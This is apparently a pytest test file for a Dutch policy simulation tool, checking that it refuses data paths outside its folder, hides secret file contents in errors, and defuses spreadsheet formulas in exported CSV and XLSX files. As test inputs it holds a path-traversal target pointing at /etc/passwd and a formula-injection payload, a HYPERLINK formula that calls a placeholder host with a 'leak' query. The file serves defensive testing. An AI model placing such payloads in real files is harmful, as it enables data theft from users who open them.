"""Leaks: files outside the model's folder, formulas in spreadsheets, mathtext in labels."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from adv_helpers import one_error_line

import nplv_sim
from nplv_sim.appendix import write_appendix
from nplv_sim.baseline import reconcile, reconciliation_csv
from nplv_sim.cli import main
from nplv_sim.safetext import spreadsheet_safe

FORMULA = '=HYPERLINK("http://example.invalid/?leak","click")'


def _point_facts_to(u: Path, target: str) -> None:
    u.write_text(u.read_text().replace('facts = "f.toml"', f'facts = "{target}"'))


@pytest.mark.parametrize("target", ["/etc/passwd", "../outside/f.toml"])
def test_facts_path_outside_the_folder_is_refused(target: str, files, tmp_path: Path, capsys) -> None:
    u, f = files
    outside = tmp_path.parent / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "f.toml").write_bytes(f.read_bytes())
    _point_facts_to(u, target)
    assert main(["baseline", str(u), "--out", str(tmp_path / "o")]) == 2
    err = capsys.readouterr().err
    assert one_error_line(err) and "--allow-outside" in err and "root:" not in err
    assert not (tmp_path / "o").exists()
    if target.startswith(".."):  # the same file is accepted when the user says so
        assert main(["baseline", str(u), "--allow-outside", "--out", str(tmp_path / "o")]) == 0


def test_a_link_out_of_the_folder_is_outside_too(files, tmp_path: Path, capsys) -> None:
    u, f = files
    elsewhere = tmp_path.parent / "elsewhere.toml"
    elsewhere.write_bytes(f.read_bytes())
    (tmp_path / "link.toml").symlink_to(elsewhere)
    _point_facts_to(u, "link.toml")
    assert main(["baseline", str(u), "--out", str(tmp_path / "o")]) == 2
    assert "--allow-outside" in capsys.readouterr().err


def test_an_error_never_quotes_a_file_that_is_not_toml(files, tmp_path: Path, capsys) -> None:
    u, _ = files
    secret = tmp_path / "secrets.txt"
    secret.write_text("root:x:0:0:SECRET-VALUE:/root:/bin/bash\n")
    _point_facts_to(u, "secrets.txt")
    assert main(["run", str(u), "--draws", "100", "--out", str(tmp_path / "o")]) == 2
    err = capsys.readouterr().err
    assert one_error_line(err) and "secrets.txt" in err and "line 1" in err
    assert "SECRET" not in err and "root:x" not in err


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        (FORMULA, True), ("+31 70 123", True), ("-cmd", True), ("@SUM(A1)", True), ("\t=1", True),
        ("-1.234,5", False), ("-12.5", False), ("-", False), ("-24 %", False), ("Rebel 2026", False), (12.5, False),
    ],
)
def test_spreadsheet_safe(text, safe: bool) -> None:
    out = spreadsheet_safe(text)
    assert (out == "'" + text) if safe else (out == text)


def test_formulas_from_files_are_text_in_xlsx_and_csv(files, tmp_path: Path) -> None:
    pytest.importorskip("openpyxl")
    from openpyxl import load_workbook

    u, f = files
    text = f.read_text()
    assert 'report = "Rebel, Totaalbeeld opgave NPLV, 28 januari 2026"' in text
    text = text.replace('report = "Rebel, Totaalbeeld opgave NPLV, 28 januari 2026"', f"report = '{FORMULA}'")
    f.write_text(text.replace('figure = "Restopgave fysiek tot 2030"', 'figure = "=1+1"', 1))
    a = nplv_sim.load_assumptions(u)
    ds = nplv_sim.simulate(a, 300, rng=1)
    paths = write_appendix(nplv_sim.summarize(ds), tmp_path / "bijlage", published=a.facts.published, draws=ds)
    book = load_workbook(next(p for p in paths if p.suffix == ".xlsx"))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
    for p in paths:
        if p.suffix == ".csv":
            assert not any(cell.startswith(("=", "+", "@")) for line in p.read_text("utf-8-sig").splitlines()
                           for cell in line.replace(";", ",").split(","))
    csv_text = reconciliation_csv(reconcile(a))
    assert "'=1+1" in csv_text and "\n=1+1" not in csv_text


def test_a_label_that_looks_like_mathtext_is_drawn_as_text() -> None:
    import matplotlib

    matplotlib.use("Agg")
    from nplv_sim.figures import style

    ax = style.new_axes()
    with style.context():
        title = ax.set_title(r"$\undefinedmacro$ EUR 5 $ and 6 $")
        ax.figure.savefig(io.BytesIO(), format="png")  # raised ValueError (mathtext) before
    assert title.get_text() == r"$\undefinedmacro$ EUR 5 $ and 6 $"
